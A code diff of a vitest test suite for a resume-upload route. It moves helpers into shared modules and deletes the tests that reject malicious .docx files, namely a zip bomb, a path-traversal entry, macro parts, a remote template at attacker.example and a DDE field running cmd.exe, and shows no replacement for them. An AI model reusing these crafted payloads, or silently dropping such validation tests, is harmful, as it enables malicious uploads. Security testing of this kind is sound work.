@@ -1,111 +1,18 @@
 import { createHash } from "node:crypto";
 import { strToU8 } from "fflate";
 import { sql } from "kysely";
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { callAction, flashToastOf, makeContext, unwrap } from "../../../tests/support/context";
+import { describe, expect, it } from "vitest";
+import { errorToast } from "../../../tests/support/context";
+import { testEngines } from "../../../tests/support/databases";
+import { minimalDocx } from "../../../tests/support/docx-fixtures";
 import {
-  startTestServices,
-  testEngines,
-  TestClock,
-  type TestServices,
-} from "../../../tests/support/databases";
-import {
-  contentTypesXml,
-  docxFiles,
-  documentXml,
-  minimalDocx,
-  relsXml,
-  zipOf,
-} from "../../../tests/support/docx-fixtures";
-import { action, loader } from "./resume-review";
-
-const answers = {
-  firstName: "Grace",
-  lastName: "Hopper",
-  email: "Grace.Hopper@Example.com",
-  university: "State University",
-  graduationYear: "2028",
-};
-
-const MB = 1024 * 1024;
-const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
-
-interface Body {
-  result: { error?: Record<string, string[]> } | null;
-  toast?: { title: string; description: string; durationMs?: number };
-}
-
-/** A multipart POST as the browser sends it, with the resume as a file part. */
-function multipartRequest(
-  fields: Record<string, string>,
-  resume?: { bytes: Uint8Array; name: string },
-) {
-  const body = new FormData();
-  for (const [key, value] of Object.entries(fields)) body.append(key, value);
-  if (resume)
-    body.append(
-      "resume",
-      new File([resume.bytes as Uint8Array<ArrayBuffer>], resume.name, { type: DOCX }),
-    );
-  return new Request("http://localhost:3000/resume-review", { method: "POST", body });
-}
+  DOCX,
+  reviewAnswers as answers,
+  useResumeReview,
+} from "../../../tests/support/resume-review";
 
 describe.each(testEngines())("resume review on $name", (engine) => {
-  let t: TestServices;
-  const clock = new TestClock();
-  let ipCounter = 0;
-
-  beforeAll(async () => {
-    t = await startTestServices(engine, { clock });
-  });
-  afterAll(async () => {
-    await t.cleanup();
-  });
-  beforeEach(async () => {
-    clock.advance(120_000);
-    for (const table of ["uploads", "submissions", "outbox", "people"] as const) {
-      await t.services.db.deleteFrom(table).execute();
-    }
-  });
-
-  const submit = async (
-    resume: { bytes: Uint8Array; name: string } | undefined,
-    fields: Record<string, string> = answers,
-    visitorId: string | null = "visitor-9",
-  ) => {
-    const response = await unwrap(
-      await callAction(
-        action,
-        multipartRequest(fields, resume),
-        makeContext(t.services, { visitorId, ip: `10.2.0.${++ipCounter}` }),
-      ),
-    );
-    return {
-      status: response.status,
-      /** Where a redirect sends the browser; null when the action answered with data. */
-      location: response.headers.get("location"),
-      /** The toast the next page shows (successes), from the flash cookie. */
-      flash: await flashToastOf(response, t.services),
-      /** The action data (failures): field errors and the toast. */
-      body: response.body as Body,
-    };
-  };
-  /** Whether the page a redirect lands on shows the confirmation, as its loader says. */
-  const showsSent = (location: string | null) =>
-    loader({ request: new Request(`http://localhost:3000${location}`) } as never).sent;
-  const count = async (table: "people" | "submissions" | "outbox" | "uploads") =>
-    Number(
-      (
-        await t.services.db
-          .selectFrom(table)
-          .select((eb) => eb.fn.countAll().as("n"))
-          .executeTakeFirstOrThrow()
-      ).n,
-    );
-  const expectNothingStored = async () => {
-    for (const table of ["people", "submissions", "outbox", "uploads"] as const)
-      expect(await count(table), table).toBe(0);
-  };
+  const { t, clock, submit, showsSent, count, expectNothingStored } = useResumeReview(engine);
 
   it("stores a real .docx with its metadata, links it from the submission and confirms by email", async () => {
     const bytes = minimalDocx("Grace Hopper, resume");
@@ -181,119 +88,6 @@ describe.each(testEngines())("resume review on $name", (engine) => {
     expect(JSON.parse(person.tags)).toEqual(["resume_review_lead"]);
   });
 
-  it("refuses a missing file", async () => {
-    const { status, body } = await submit(undefined);
-    expect(status).toBe(400);
-    expect(body.toast).toMatchObject({ title: "Error", description: "Please upload your resume" });
-    expect(body.result?.error?.resume).toEqual(["Please upload your resume"]);
-    await expectNothingStored();
-  });
-
-  it.each(["resume.pdf", "resume.doc", "resume.docx.exe", "resume"])(
-    "refuses the file name %j",
-    async (name) => {
-      const { status, body } = await submit({ bytes: minimalDocx(), name });
-      expect(status).toBe(400);
-      expect(body.toast).toMatchObject({
-        title: "Invalid File Type",
-        description: "Please upload a .docx file",
-      });
-      await expectNothingStored();
-    },
-  );
-
-  const withoutContentTypes = () => {
-    const files = docxFiles();
-    delete files["[Content_Types].xml"];
-    return zipOf(files);
-  };
-  const crafted: [string, () => Uint8Array][] = [
-    ["a renamed text file", () => strToU8("Grace Hopper\nRear admiral\n")],
-    [
-      "a zip bomb",
-      () =>
-        zipOf({ ...docxFiles(), "word/media/zeros.bin": new Uint8Array(30 * MB) }, { level: 9 }),
-    ],
-    ["a path traversal entry", () => zipOf({ ...docxFiles(), "../../evil.txt": "x" })],
-    [
-      "a macro part",
-      () => zipOf({ ...docxFiles(), "word/vbaProject.bin": new Uint8Array([1, 2, 3]) }),
-    ],
-    [
-      "a macro-enabled document",
-      () =>
-        zipOf({
-          ...docxFiles(),
-          "[Content_Types].xml": contentTypesXml(
-            "application/vnd.ms-word.document.macroEnabled.main+xml",
-          ),
-        }),
-    ],
-    ["a zip without content types", withoutContentTypes],
-    [
-      "a remote attached template",
-      () =>
-        zipOf({
-          ...docxFiles(),
-          "word/_rels/settings.xml.rels": relsXml([
-            {
-              id: "rId1",
-              type: "attachedTemplate",
-              target: "https://attacker.example/cv.dotm",
-              external: true,
-            },
-          ]),
-        }),
-    ],
-    [
-      "a DDE field",
-      () =>
-        zipOf({
-          ...docxFiles(),
-          "word/document.xml": documentXml(
-            `<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p>`,
-          ),
-        }),
-    ],
-  ];
-
-  it.each(crafted)("refuses %s named .docx by its content", async (_, make) => {
-    const { status, body } = await submit({ bytes: make(), name: "resume.docx" });
-    expect(status).toBe(400);
-    expect(body.toast).toMatchObject({
-      title: "Invalid File Type",
-      description: "Please upload a .docx file",
-      durationMs: 7000,
-    });
-    expect(body.result?.error?.resume).toEqual(["Please upload a .docx file"]);
-    await expectNothingStored();
-  });
-
-  it("refuses a file over 5 MB with a message about the limit", async () => {
-    const files = { ...docxFiles(), "word/media/noise.bin": new Uint8Array(5 * MB) };
-    const { status, body } = await submit({ bytes: zipOf(files, { level: 0 }), name: "cv.docx" });
-    expect(status).toBe(400);
-    expect(body.toast?.title).toBe("File Too Large");
-    expect(body.toast?.description).toContain("5 MB");
-    await expectNothingStored();
-  });
-
-  it("answers a body that is not valid multipart with the generic error", async () => {
-    const request = new Request("http://localhost:3000/resume-review", {
-      method: "POST",
-      headers: { "Content-Type": "multipart/form-data; boundary=xyz" },
-      body: '--xyz\r\nContent-Disposition: form-data; name="resume"; filename="a.docx"\r\n\r\ncut',
-    });
-    const response = await unwrap(
-      await callAction(action, request, makeContext(t.services, { ip: "10.3.0.1" })),
-    );
-    expect(response.status).toBe(400);
-    expect((response.body as Body).toast?.description).toBe(
-      "There was a problem processing your request. Please try again or contact support.",
-    );
-    await expectNothingStored();
-  });
-
   it("keeps the answers when refusing, so the form stays filled", async () => {
     const { body } = await submit({ bytes: strToU8("hi"), name: "cv.docx" });
     expect((body.result as { initialValue?: Record<string, unknown> }).initialValue).toMatchObject({
@@ -335,16 +129,13 @@ describe.each(testEngines())("resume review on $name", (engine) => {
       const { status, location, body } = await submit({ bytes: minimalDocx(), name: "cv.docx" });
       expect(status).toBe(500);
       expect(location).toBeNull();
-      expect(body.toast).toMatchObject({
-        title: "Error",
-        description: "Failed to upload resume. Please try again or contact support.",
-        durationMs: 7000,
-      });
+      expect(body.toast).toMatchObject(
+        errorToast("Failed to upload resume. Please try again or contact support."),
+      );
       for (const table of ["people", "submissions", "outbox"] as const)
         expect(await count(table), table).toBe(0);
     } finally {
-      await t.cleanup();
-      t = await startTestServices(engine, { clock });
+      await t.restart();
     }
   });
 });
